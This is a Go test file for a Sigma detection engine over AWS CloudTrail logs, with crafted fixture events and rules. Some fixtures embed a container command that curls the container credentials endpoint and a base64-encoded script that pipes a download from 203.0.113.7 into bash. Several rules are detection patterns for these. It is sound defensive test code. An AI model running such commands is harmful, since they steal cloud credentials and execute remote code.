package detect

import (
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/harrier-ir/harrier/internal/sigma"
)

// diffEvents are crafted to exercise the corners of matching: arrays on the
// path, objects compared as text, nulls, empty strings, numbers, case,
// wildcard characters in data, IPv4 and IPv6 addresses, unicode.
var diffEvents = []string{
	`{"eventVersion":"1.08","eventID":"e01","eventTime":"2026-03-14T10:00:00Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7","userAgent":"aws-cli/2.15.0 Python/3.11","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/alice","accountId":"111122223333","accessKeyId":"AKIAEXAMPLE1","userName":"alice","principalId":"AIDAEXAMPLE"},"requestParameters":{"userName":"bob"},"responseElements":{"accessKey":{"accessKeyId":"AKIANEW","userName":"bob","status":"Active"}},"readOnly":false,"recipientAccountId":"111122223333"}`,
	`{"eventVersion":"1.08","eventID":"e02","eventTime":"2026-03-14T10:05:00Z","eventSource":"iam.amazonaws.com","eventName":"createaccesskey","awsRegion":"us-east-1","sourceIPAddress":"10.0.1.5","userAgent":"Boto3/1.34","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/bob","userName":"bob"},"requestParameters":{"userName":"bob"},"errorCode":"AccessDenied","errorMessage":"User: bob is not authorized","readOnly":false}`,
	`{"eventVersion":"1.08","eventID":"e03","eventTime":"2026-03-14T23:59:59Z","eventSource":"ecs.amazonaws.com","eventName":"RegisterTaskDefinition","awsRegion":"eu-west-1","sourceIPAddress":"2001:db8::1","userAgent":"","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::111122223333:assumed-role/deploy/ci","sessionContext":{"sessionIssuer":{"type":"Role","arn":"arn:aws:iam::111122223333:role/deploy","userName":"deploy"},"attributes":{"mfaAuthenticated":"false","creationDate":"2026-03-14T23:00:00Z"}}},"requestParameters":{"containerDefinitions":[{"name":"a","command":["sh","-c","curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]},{"name":"b","image":"nginx"}],"layers":["arn:aws:lambda:us-east-1:999988887777:layer:x:1"]},"responseElements":null,"readOnly":false}`,
	`{"eventVersion":"1.08","eventID":"e04","eventTime":"2026-03-15T00:00:01Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.20","userAgent":"[S3Console/0.4, aws-internal/3]","userIdentity":{"type":"Root","arn":"arn:aws:iam::111122223333:root","accountId":"111122223333"},"requestParameters":{"bucketName":"data","key":"a*b?c\\d%e_f.txt","Host":"data.s3.amazonaws.com"},"additionalEventData":{"bytesTransferredOut":1048576.0,"x-amz-id-2":"abc","MFAUsed":"No"},"readOnly":true,"eventType":"AwsApiCall","eventCategory":"Data","resources":[{"type":"AWS::S3::Object","ARN":"arn:aws:s3:::data/a"},{"type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::data"}]}`,
	`{"eventVersion":"1.08","eventID":"e05","eventTime":"2026-03-15T08:30:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"192.0.2.44","userAgent":"Mozilla/5.0 (X11; Linux x86_64) Ünïcødé","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/Alice","userName":"Alice"},"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No","LoginTo":"https://console.aws.amazon.com/"},"eventType":"AwsConsoleSignIn"}`,
	`{"eventVersion":"1.08","eventID":"e06","eventTime":"2026-03-15T09:00:00Z","eventSource":"ec2.amazonaws.com","eventName":"ModifySnapshotAttribute","awsRegion":"ap-south-1","sourceIPAddress":"ec2.amazonaws.com","userIdentity":{"type":"AWSService","invokedBy":"ec2.amazonaws.com"},"requestParameters":{"snapshotId":"snap-1","createVolumePermission":{"add":{"items":[{"userId":"999988887777"},{"group":"all"}]}},"attributeType":"CREATE_VOLUME_PERMISSION","userData":"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vMjAzLjAuMTEzLjcvc2ggfCBiYXNo","encoded":"YWxpY2U=","count":12,"ratio":0.25,"flag":true,"nothing":null,"empty":""}}`,
	`{"eventVersion":"1.08","eventID":"e07","eventTime":"2026-03-15T09:01:00Z","eventSource":"sts.amazonaws.com","eventName":"AssumeRole","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7","userAgent":"aws-sdk-go-v2/1.0","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/alice","userName":"alice","accessKeyId":"AKIAEXAMPLE1"},"requestParameters":{"roleArn":"arn:aws:iam::444455556666:role/Admin","roleSessionName":"alice"},"responseElements":{"credentials":{"accessKeyId":"ASIATEMP","expiration":"Mar 15, 2026 10:01:00 AM"},"assumedRoleUser":{"arn":"arn:aws:sts::444455556666:assumed-role/Admin/alice"}}}`,
	`{"eventVersion":"1.08","eventID":"e08","eventTime":"bad time","eventSource":"iam.amazonaws.com","eventName":"PutUserPolicy","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/alice"},"requestParameters":{"userName":"alice","policyName":"p","policyDocument":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}}`,
	`{"eventVersion":"1.08","eventID":"e09","eventTime":"2026-03-15T10:00:00Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"2001:DB8:0:0:8000:0:0:1","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/v6"}}`,
	`{"eventVersion":"1.08","eventID":"e10","eventTime":"2026-03-15T10:00:01Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"::1","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/v6"}}`,
	`{"eventVersion":"1.08","eventID":"e11","eventTime":"2026-03-15T10:00:02Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"fe80::1%eth0","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/v6"}}`,
	`{"eventVersion":"1.08","eventID":"e12","eventTime":"2026-03-15T10:00:03Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"::ffff:192.0.2.1","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/v6"}}`,
	`{"eventVersion":"1.08","eventID":"e13","eventTime":"2026-03-15T10:00:04Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"2001:db8:1::ab9:C0A8:102","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/v6"}}`,
	`{"eventVersion":"1.08","eventID":"e14","eventTime":"2026-03-15T10:00:05Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"2001:db8::12345","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/v6"}}`,
	`{"eventVersion":"1.08","eventID":"e15","eventTime":"2026-03-15T10:00:06Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"1:2:3:4:5:6:7::8","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/v6"}}`,
	`{"eventVersion":"1.08","eventID":"e16","eventTime":"2026-03-15T10:00:07Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"010.1.2.3","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/v6"}}`,
}

// diffRules exercise every modifier and condition form.
var diffRules = []string{
	`eventName: CreateAccessKey`,
	`eventName: 'CREATEACCESSKEY'`,
	`eventName|cased: CreateAccessKey`,
	`eventName: 'Create*Key'`,
	`eventName: 'Create?ccessKey'`,
	`eventName|startswith: create`,
	`eventName|endswith: [key, login]`,
	`eventName|contains|all: [access, key]`,
	`userAgent: null`,
	`errorCode: null`,
	`errorCode|exists: true`,
	`responseElements|exists: false`,
	`requestParameters.nothing: null`,
	`requestParameters.nothing|exists: true`,
	`requestParameters.empty: ''`,
	`requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'`,
	`requestParameters.containerDefinitions.name: b`,
	`requestParameters.layers|contains: '999988887777'`,
	`requestParameters.createVolumePermission.add.items.group: all`,
	`requestParameters.createVolumePermission.add.items.userId|re: '^[0-9]{12}$'`,
	`requestParameters|contains: '"group":"all"'`,
	`requestParameters.createVolumePermission|contains: '"userId":"999988887777"'`,
	`requestParameters.key: 'a\*b\?c\d%e_f.txt'`,
	`requestParameters.key|contains: '%e_'`,
	`requestParameters.key: 'a*c\\d*'`,
	`requestParameters.policyDocument|contains: '"Action":"*"'`,
	`requestParameters|contains: '"Action":"*"'`,
	`requestParameters|contains: '\"Action\":\"*\"'`,
	`requestParameters.createVolumePermission: '999988887777'`,
	`requestParameters.createVolumePermission.add: all`,
	`requestParameters.policyDocument|contains|all: ['"Effect":"Allow"', '"Resource":"\*"']`,
	`requestParameters.count|gt: 10`,
	`requestParameters.count|lte: 12`,
	`requestParameters.ratio|lt: 0.5`,
	`requestParameters.flag: true`,
	`requestParameters.count: 12`,
	`additionalEventData.bytesTransferredOut|gte: 1048576`,
	`additionalEventData.bytesTransferredOut: '1048576.0'`,
	`additionalEventData.MFAUsed|cased: 'No'`,
	`resources.ARN|endswith: ':::data'`,
	`resources.type: 'AWS::S3::Object'`,
	`sourceIPAddress|cidr: 203.0.113.0/24`,
	`sourceIPAddress|cidr: [10.0.0.0/8, 192.0.2.0/28]`,
	`sourceIPAddress|cidr: 2001:db8::/32`,
	`sourceIPAddress|cidr: 2001:db8::/33`,
	`sourceIPAddress|cidr: 2001:db8:0:0:8000::/65`,
	`sourceIPAddress|cidr: 2001:db8::/127`,
	`sourceIPAddress|cidr: ::/0`,
	`sourceIPAddress|cidr: ::1/128`,
	`sourceIPAddress|cidr: fe80::/10`,
	`sourceIPAddress|cidr: 0.0.0.0/0`,
	`sourceIPAddress|re: '^[0-9.]+$'`,
	`userAgent|re|i: 'MOZILLA.*ünïcødé'`,
	`userAgent|re: '(?i)boto3'`,
	`userAgent|contains: 'ÜNÏCØDÉ'`,
	`userIdentity.arn|endswith: ':root'`,
	`userIdentity.userName|fieldref: requestParameters.userName`,
	`requestParameters.userName|fieldref|neq: userIdentity.userName`,
	`responseElements.accessKey.userName|fieldref|cased: requestParameters.userName`,
	`userIdentity.arn|fieldref|contains: requestParameters.roleSessionName`,
	`userIdentity.sessionContext.sessionIssuer.type: Role`,
	`userIdentity.sessionContext.attributes.mfaAuthenticated: 'false'`,
	`eventName|neq: CreateAccessKey`,
	`awsRegion|neq: [us-east-1, eu-west-1]`,
	`eventTime|hour: 23`,
	`eventTime|minute|gte: 30`,
	`eventTime|day|lt: 15`,
	`eventTime|month: 3`,
	`eventTime|year: 2026`,
	`eventTime|week: 11`,
	`userIdentity.sessionContext.attributes.creationDate|hour: 23`,
	`eventTime: '2026-03-14T10:00:00Z'`,
	`eventTime|startswith: '2026-03-15'`,
	`readOnly: false`,
	`responseElements.credentials.accessKeyId|startswith: ASIA`,
	`requestParameters.roleArn|re: 'arn:aws:iam::(?:[0-9]{12}):role/'`,
	`requestParameters.key|base64offset|contains: 'data'`,
	`requestParameters.roleSessionName|base64: alice`,
	`requestParameters.encoded|base64: alice`,
	`requestParameters.userData|base64offset|contains: 'curl http'`,
	`requestParameters.userData|base64offset|contains: 'http://203.0.113.7'`,
	`requestParameters.userData|base64offset|contains: 'wget'`,
	`eventSource|windash: 'iam-amazonaws.com'`,
}

var diffConditions = []string{
	"a and b",
	"a or b",
	"a and not b",
	"not (a or b)",
	"1 of sel_*",
	"all of sel_*",
	"1 of them",
	"all of them",
	"any of them and not b",
}

var diffKeywords = []string{
	`- '203.0.113.7'`,
	`- 'ASIATEMP'
- 'snap-1'`,
	`- '*s3console*'`,
	`- 'a\*b'`,
}

func parseDetection(t *testing.T, body string) *sigma.Rule {
	t.Helper()
	c, err := sigma.Parse("test.yml", []byte("title: t\nid: x\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n"+body), sigma.Options{})
	if err != nil {
		t.Fatalf("parse:\n%s\n%v", body, err)
	}
	return c.Rules[0]
}

func indent(s string) string {
	return "        " + strings.ReplaceAll(s, "\n", "\n        ")
}

func TestDifferential(t *testing.T) {
	var recs [][]byte
	for _, s := range diffEvents {
		recs = append(recs, []byte(s))
	}
	st := loadStore(t, recs)
	events := prepare(t, recs)
	nonEmpty, partial := 0, 0
	check := func(t *testing.T, body string) {
		r := parseDetection(t, body)
		want := refMatches(t, events, r.Detection.Condition)
		if len(want) > 0 {
			nonEmpty++
		}
		if len(want) > 0 && len(want) < len(events) {
			partial++
		}
		got := sqlMatches(t, st, r.Detection.Condition)
		if !reflect.DeepEqual(got, want) {
			q, _ := Compile(DuckDB{}, r.Detection.Condition)
			t.Errorf("%s\nSQL matched %v, reference matched %v\n%s\n%s", body, got, want, sigma.String(r.Detection.Condition), q)
		}
	}
	for i, rule := range diffRules {
		t.Run(fmt.Sprintf("field%02d", i), func(t *testing.T) {
			check(t, "    sel:\n"+indent(rule)+"\n    condition: sel\n")
			check(t, "    sel:\n"+indent(rule)+"\n    condition: not sel\n")
		})
	}
	for i, kw := range diffKeywords {
		t.Run(fmt.Sprintf("keywords%02d", i), func(t *testing.T) {
			check(t, "    kw:\n"+indent(kw)+"\n    condition: kw\n")
		})
	}
	for i, cond := range diffConditions {
		for j := 0; j+1 < len(diffRules); j += 7 {
			a, b := diffRules[j], diffRules[(j*3+5)%len(diffRules)]
			body := "    a:\n" + indent(a) + "\n    b:\n" + indent(b) + "\n    sel_1:\n" + indent(a) + "\n    sel_2:\n" + indent(b) + "\n    condition: " + cond + "\n"
			t.Run(fmt.Sprintf("cond%02d_%02d", i, j), func(t *testing.T) { check(t, body) })
		}
	}
	// lists of maps (OR of ANDs)
	check(t, "    sel:\n        - eventName: CreateAccessKey\n          errorCode: null\n        - eventSource: s3.amazonaws.com\n    condition: sel\n")
	// the table must discriminate: most checks match some events, not all
	total := 2*len(diffRules) + len(diffKeywords)
	if partial < total*2/3 {
		t.Errorf("only %d of %d checks split the events; the table has stopped testing anything", partial, total)
	}
	t.Logf("%d checks matched something, %d split the events", nonEmpty, partial)
}
